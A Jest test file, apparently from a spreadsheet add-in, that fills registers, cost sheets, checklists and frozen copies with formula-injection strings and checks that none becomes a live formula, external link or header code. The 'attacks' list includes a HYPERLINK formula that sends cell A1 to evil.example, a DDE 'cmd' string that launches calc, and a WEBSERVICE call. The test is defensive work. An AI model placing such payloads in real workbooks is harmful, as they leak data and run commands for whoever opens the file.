import { createRegister } from "../../src/actions/register/createRegister";
import { freezeSheet } from "../../src/actions/frozen/freezeSheet";
import { insertChecklist } from "../../src/actions/improvement/insertChecklist";
import { insertOverview } from "../../src/actions/charts/insertOverview";
import { makeCostSheet } from "../../src/actions/costs/makeCostSheet";
import { makeImprovementSheet } from "../../src/actions/improvement/makeImprovementSheet";
import { makeReview } from "../../src/actions/documents/makeReview";
import { makeTargetTable } from "../../src/actions/documents/makeTargetTable";
import { makeRegisterSheet } from "../../src/actions/register/registerSheets";
import { updateAll } from "../../src/actions/made/updateAll";
import { wholeSheet } from "../../src/host/model/area";
import type { Workbook } from "../../src/host";
import { exampleSeries } from "../../src/core/register/exampleFigures";
import { monthlyWorkbook } from "../actions/support/workbooks";
import { partsOf } from "../host/support/files";
import { succeed } from "./support/actionCases";
import { MatrixHost } from "./support/matrixHost";
import { addSheet, today } from "./support/otherSheetCases";

/**
 * As textStaysText, for everything else that holds a text of the user's: documents, costs, checklists, plan, journal,
 * register, headers and footers, frozen copies, and all of them made again.
 */
jest.setTimeout(120_000);

const excel = new MatrixHost();
afterAll(() => excel.stop());

/** One word in each, by which it is found wherever it lands. */
const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "=cmd|' /C calc'!A0",
  "+EVIL(1)",
  "-EVIL(2)",
  "@EVIL(1)",
  "\t=EVIL(3)",
  "\r=EVIL(4)",
  '=WEBSERVICE("http://evil.example")&A1',
  '&[Path]&P&"Arial"EVIL',
] as const;
const isAttack = /HYPERLINK\("http|WEBSERVICE\("http|cmd\||EVIL/;

function hostile(): Workbook {
  const [first] = exampleSeries();
  if (first === undefined) throw new Error("no example");
  const rows = attacks.map((indicator, i) => ({
    ...first,
    indicator,
    unit: i % 2 === 0 ? "=A1" : "dagar",
    // The last five break away, so that every sentence there is gets the name.
    values: first.values.slice(0, 14).map((value, month) => (value ?? 0) + (month > 8 ? 4000 : 0)),
  }));
  const workbook = monthlyWorkbook(rows);
  addSheet(workbook, "=Kostnader", [
    ["Kommun", "År", "Nettokostnad =EVIL() (kr)", "Invånare", "Invånare 80+", "Brukare"],
    ...attacks
      .slice(0, 4)
      .flatMap((unit, u) =>
        [2024, 2025].map((year, y) => [
          unit,
          year,
          9e8 + 1e7 * (u + y),
          85_000 + u,
          4_900 + 9 * u,
          1_450 + 7 * y,
        ]),
      ),
  ]);
  return workbook;
}

/** Writes attacks in the cells that are to be filled in. */
function fillIn(workbook: Workbook): number {
  let filled = 0;
  for (const sheet of workbook.sheets) {
    const empty: (readonly [number, number])[] = [];
    sheet.cells.forEach(wholeSheet, (cell, row) => {
      const input = JSON.stringify(sheet.style(row, cell.column)).toUpperCase().includes("#FFF9E5");
      if (input && cell.value === null && cell.formula === null) empty.push([row, cell.column]);
    });
    for (const [row, column] of empty.slice(0, 60)) {
      sheet.setConstant(row, column, attacks[filled % attacks.length] ?? "");
      filled += 1;
    }
  }
  return filled;
}

const month = { frequency: "month", ordinal: 12 * 2024 + 9 } as const;

test("in documents, costs, checklists and frozen copies, also when they are made again", async () => {
  const workbook = hostile();
  const host = excel.connect(workbook);
  await succeed(createRegister());
  await succeed(insertOverview({}));
  await succeed(makeCostSheet({ kind: "costs" }));
  await succeed(insertChecklist({ list: "smarta" }));
  for (const kind of ["actionPlan", "journal", "analysis", "present"] as const)
    await succeed(makeImprovementSheet({ kind }));
  await succeed(makeTargetTable({ variant: "budget" }));
  await succeed(makeRegisterSheet("measures"));
  const review = await succeed(
    makeReview({ kind: "monthly", period: month, organisation: attacks[0] }, { today }),
  );
  expect(fillIn(workbook)).toBeGreaterThan(50);
  await succeed(updateAll({ today }));
  await succeed(freezeSheet(review.item?.sheet ?? null));
  await host.idle();
  let seen = 0;
  for (const sheet of workbook.sheets) {
    sheet.cells.forEach(wholeSheet, (cell, row) => {
      const formula = cell.formula?.a1(row, cell.column) ?? "";
      // Texts inside quotes and names of sheets inside apostrophes are data in a formula, not calls.
      const calls = formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, "");
      expect([sheet.name, formula, isAttack.test(calls)]).toEqual([sheet.name, formula, false]);
      if (typeof cell.value === "string" && isAttack.test(cell.value)) seen += 1;
    });
    for (const { title, series } of sheet.charts) {
      expect([sheet.name, title.formula]).toEqual([sheet.name, null]);
      for (const { name } of series)
        expect(JSON.stringify(name)).not.toMatch(/"formula":"[^"]*(EVIL|HYPERLINK|WEB)/);
    }
    // Whatever is left when doubled signs are taken away are the codes that Styrtal writes.
    const codes = (
      JSON.stringify(sheet.pageLayout)
        .replace(/&&/g, "")
        .match(/&[A-Z"[]/g) ?? []
    ).filter((code) => !["&P", "&N", "&D", "&L", "&C", "&R"].includes(code));
    expect([sheet.name, codes]).toEqual([sheet.name, []]);
  }
  expect(seen).toBeGreaterThan(100);
  for (const [name, bytes] of partsOf(excel.save())) {
    const text = new TextDecoder().decode(bytes);
    expect([name, /TargetMode="External"/.test(text)]).toEqual([name, false]);
    expect([name, /<(?:\w+:)?f>[^<]*(WEBSERVICE\(|cmd\|)/.test(text)]).toEqual([name, false]);
  }
});
